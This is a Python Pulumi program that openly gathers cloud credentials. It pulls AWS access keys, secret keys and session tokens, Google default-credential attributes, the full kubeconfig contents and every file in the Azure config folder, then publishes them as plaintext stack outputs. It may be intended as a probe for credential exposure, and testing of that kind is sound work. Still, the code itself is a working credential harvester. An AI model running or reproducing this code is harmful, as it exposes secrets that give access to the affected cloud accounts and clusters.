"""Looks for credentials wherever the SDKs of the clouds look, and reports what it found."""

import os
from pathlib import Path

import boto3
import google.auth
import pulumi
from botocore.config import Config
from botocore.exceptions import BotoCoreError
from google.auth.exceptions import DefaultCredentialsError

MARK = "real-credential"


def aws() -> str:
    session = boto3.Session()
    found = session.get_credentials()
    return f"{session.profile_name} {found.access_key} {found.secret_key} {found.token}" if found else "none"


def aws_call() -> str:
    try:
        once = Config(retries={"total_max_attempts": 1})
        return str(boto3.client("sts", region_name="us-east-1", config=once).get_caller_identity())
    except BotoCoreError as error:
        return f"none: {error}"


def google_default() -> str:
    try:
        return str(vars(google.auth.default()[0]))
    except DefaultCredentialsError:
        return "none"


def google_metadata() -> str:
    """Address of the metadata server for the client libraries."""
    return os.environ.get("GCE_METADATA_HOST", "metadata.google.internal")


def kubernetes() -> str:
    files = os.environ.get("KUBECONFIG", str(Path.home() / ".kube" / "config")).split(os.pathsep)
    inside = os.environ.get("KUBERNETES_SERVICE_HOST", "none")
    return inside + "".join(Path(file).read_text() for file in files if Path(file).exists())


def azure() -> str:
    folder = Path(os.environ.get("AZURE_CONFIG_DIR", Path.home() / ".azure"))
    return str([file.read_text() for file in folder.glob("*")] if folder.is_dir() else [])


pulumi.export("aws", aws())
pulumi.export("aws call", aws_call())
pulumi.export("google", google_default())
pulumi.export("google metadata", google_metadata())
pulumi.export("kubernetes", kubernetes())
pulumi.export("azure", azure())
pulumi.export("variables", [name for name, value in os.environ.items() if MARK in value])
